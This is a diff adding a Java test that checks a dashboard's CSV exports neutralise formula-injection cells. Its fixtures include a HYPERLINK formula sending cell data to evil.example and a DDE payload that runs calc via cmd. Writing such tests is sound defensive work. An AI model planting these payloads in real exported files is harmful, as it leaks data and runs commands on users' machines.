@@ -370,6 +370,50 @@ class DashboardTest {
 	}
 
 	@Test
+	void bothCsvExportsNeutraliseCellsASpreadsheetWouldRunAsFormulas() throws Exception {
+		long formulaGroup = data.group("@SUM(1+1)");
+		String teamName = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Click\")";
+		TestData.Team formulaTeam = data.team(teamName, formulaGroup);
+		TestData.Person author = data.member(formulaTeam);
+		jdbc.sql("update person set display_name = '+SUM(A1:A9)' where id = ?").param(author.id()).update();
+		load(formulaTeam, AssessmentStatus.SUBMITTED, author,
+				Map.of("investment_1", 2, "investment_2", 3, "adoption_1", 1), Set.of(),
+				Map.of("investment_1", "-2+3", "investment_2", "\t=1+1", "adoption_1", "\r=cmd|' /C calc'!A0",
+						"adoption_2", "@A1"));
+		String groupName = jdbc.sql("select name from team_group where id = ?")
+			.param(formulaGroup)
+			.query(String.class)
+			.single();
+
+		String query = "?quarter=" + quarter.label() + "&group=" + formulaGroup;
+		CSVRecord heatmap = parse(csv("/dashboard/heatmap.csv" + query)).get(0);
+		assertThat(heatmap.get("team_name")).isEqualTo("'" + teamName);
+		assertThat(heatmap.get("group")).isEqualTo("'" + groupName);
+		assertThat(heatmap.get("investment")).as("a score the application writes").isEqualTo("2.50");
+		assertThat(heatmap.get("answered")).isEqualTo("3");
+
+		Map<String, CSVRecord> answers = new HashMap<>();
+		parse(csv("/dashboard/answers.csv" + query))
+			.forEach(record -> answers.put(record.get("question"), record));
+		assertThat(answers.get("investment_1").get("comment")).isEqualTo("'-2+3");
+		assertThat(answers.get("investment_2").get("comment")).isEqualTo("'\t=1+1");
+		assertThat(answers.get("adoption_1").get("comment")).isEqualTo("'\r=cmd|' /C calc'!A0");
+		assertThat(answers.get("adoption_2").get("comment")).isEqualTo("'@A1");
+		assertThat(answers.get("investment_1").get("team_name")).isEqualTo("'" + teamName);
+		assertThat(answers.get("investment_1").get("group")).isEqualTo("'" + groupName);
+		assertThat(answers.get("investment_1").get("answered_by")).isEqualTo("'+SUM(A1:A9)");
+		assertThat(answers.get("investment_1").get("option_level")).isEqualTo("2");
+	}
+
+	private byte[] csv(String path) throws Exception {
+		return mvc.perform(get(path).with(asLead()))
+			.andExpect(status().isOk())
+			.andReturn()
+			.getResponse()
+			.getContentAsByteArray();
+	}
+
+	@Test
 	void theApiGivesTheHeatmapAndCompletion() throws Exception {
 		mvc.perform(get("/api/v1/dashboard?quarter=" + quarter.label() + "&group=" + group).with(httpBasic(lead.username(), TestData.PASSWORD)))
 			.andExpect(status().isOk())
